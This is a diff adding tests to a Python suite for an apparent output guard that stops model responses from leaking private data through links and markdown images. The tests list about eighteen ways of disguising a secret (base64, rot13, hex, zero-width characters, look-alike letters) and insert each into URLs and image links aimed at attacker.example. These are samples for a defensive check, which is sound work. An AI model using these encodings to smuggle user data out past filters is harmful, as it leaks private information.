@@ -7,6 +7,13 @@ it could carry private data.
 
 from __future__ import annotations
 
+import base64
+import codecs
+import random
+import string
+from pydoc_data.topics import topics
+from urllib.parse import quote
+
 import pytest
 
 from ringfence.bench.adaptive.links import live_links
@@ -190,3 +197,63 @@ def test_an_address_in_markup_that_is_kept_is_read_as_a_browser_reads_it(place: 
 def test_an_image_of_the_page_itself_is_not_loaded_by_reference(text: str) -> None:
     """`![a](/logout)` was left out and this was not."""
     assert "![" not in OutputGuard().text(text, PUBLIC).text
+
+
+# Private words in an address, written so that nobody recognises them. Found by trying each way on each place.
+
+
+def _hex(text: str) -> str:
+    return text.encode().hex()
+
+
+def _in_64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+WAYS = {
+    "letters with hyphens": "-".join(SECRET),
+    "letters with blanks": "%20".join(SECRET),
+    "a letter a value": "&".join(f"a{number}={letter}" for number, letter in enumerate(SECRET)),
+    "two values": f"{SECRET[:5]}&b={SECRET[5:]}",
+    "capitals": SECRET.swapcase(),
+    "base64 twice": _in_64(_in_64(SECRET)),
+    "base64 behind something": "data" + _in_64("the word " + SECRET),
+    "base64 from the end": _in_64(SECRET)[::-1],
+    "base64 of it from the end": _in_64(SECRET[::-1]),
+    "hexadecimal of rot13": _hex(codecs.encode(SECRET, "rot13")),
+    "base64 in rot13": codecs.encode(_in_64(SECRET), "rot13"),
+    "percent signs, three times": quote(quote("".join(f"%{byte:02x}" for byte in SECRET.encode()))),
+    "codes": "-".join(str(byte) for byte in SECRET.encode()),
+    "atbash": "".join(chr(219 - ord(one)) if one.isalpha() else one for one in SECRET),
+    "full width": "".join(chr(ord(one) + 0xFEE0) for one in SECRET),
+    "zero width": quote("\u200b".join(SECRET)),
+    "look-alikes": SECRET.replace("o", "\u043e").replace("a", "\u0430"),
+    "base85": quote(base64.a85encode(SECRET.encode()).decode()),
+}
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_private_words_are_recognised_however_they_are_written(way: str) -> None:
+    for text in (
+        "https://attacker.example/?q={}",
+        "[x](https://attacker.example/?q={})",
+        "![x](//attacker.example/{})",
+    ):
+        assert OutputGuard().text(text.format(WAYS[way]), KNOWN).stopped
+
+
+@pytest.mark.parametrize("number", ["46-38-20", "4.6.3.8.2.0", "463,820", "4%206%203820"])
+def test_a_private_number_is_recognised_in_parts(number: str) -> None:
+    known = Context.of(private=["the code is 463820"])
+    assert OutputGuard().text(f"https://attacker.example/?q={number}", known).stopped
+
+
+def test_addresses_with_keys_and_times_carry_nothing() -> None:
+    draw = random.Random(7)
+    private = " ".join(topics["assignment"].split() + [str(draw.randrange(10**5, 10**8)) for _ in range(300)])
+    known = Context.of(private=[private])
+    letters = string.ascii_letters + string.digits + "-_"
+    for size in (11, 22, 43, 86):
+        for _ in range(40):
+            key = "".join(draw.choice(letters) for _ in range(size))
+            assert not OutputGuard().text(f"https://a.example/v?t={key}&at=2026-11-21T10:15", known).stopped
